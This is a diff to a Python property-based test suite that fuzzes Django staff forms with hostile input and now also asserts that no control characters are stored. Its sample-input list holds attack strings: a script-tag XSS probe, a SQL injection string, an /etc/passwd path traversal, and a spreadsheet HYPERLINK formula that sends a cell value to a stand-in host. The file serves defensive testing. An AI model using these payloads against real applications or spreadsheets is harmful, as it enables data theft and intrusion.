@@ -37,7 +37,12 @@ ODD = [
     "-1", "0", "1e309", "NaN", "inf", "99999999999999999999999999", "250 000,50", "١٢٣",
     "2024-02-30", "31.12.2021", "0000-00-00", "9999-12-31T99:99",
     " ", "\t\n", "<script>alert(1)</script>", "' OR 1=1 --", "../../etc/passwd", "%s%n{0}",
+    # Pasted from Word and Excel: manual line break, page break, separators, other controls.
+    "Бюджет\x0bэкинчи сап", "\x0c", "a\x1c\x1d\x1eb\x85c\u2028d\u2029", "\x01\x07\x1b\x7f\x9f",
+    # Formula prefixes that must never run in a spreadsheet.
+    '=HYPERLINK("http://example.invalid/?q="&A1,"details")', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
 ]
+CONTROLS = set(chr(code) for code in [*range(0, 9), *range(11, 32), *range(0x7f, 0xa0), 0x2028, 0x2029])
 hostile_text = st.one_of(
     st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=60),
     st.sampled_from(ODD),
@@ -131,6 +136,17 @@ def invalid_rows(models):
     return bad
 
 
+def stored_controls(models):
+    """(model, field) of every stored text holding a control character (tab and newline aside)."""
+    found = set()
+    for model in models:
+        for row in model.objects.values():
+            for field, value in row.items():
+                if isinstance(value, str) and CONTROLS & set(value):
+                    found.add((model.__name__, field))
+    return found
+
+
 MANAGEMENT = ("TOTAL_FORMS", "INITIAL_FORMS", "MIN_NUM_FORMS", "MAX_NUM_FORMS")
 
 
@@ -197,6 +213,7 @@ def test_staff_forms_survive_hostile_input(world, name, args, models):
         elif response.status_code == 302:
             read.clear()
             assert invalid_rows(models) <= already_invalid, "an accepted form saved an invalid row"
+            assert not stored_controls(models), "an accepted form saved a control character"
 
     post_hostile()
 
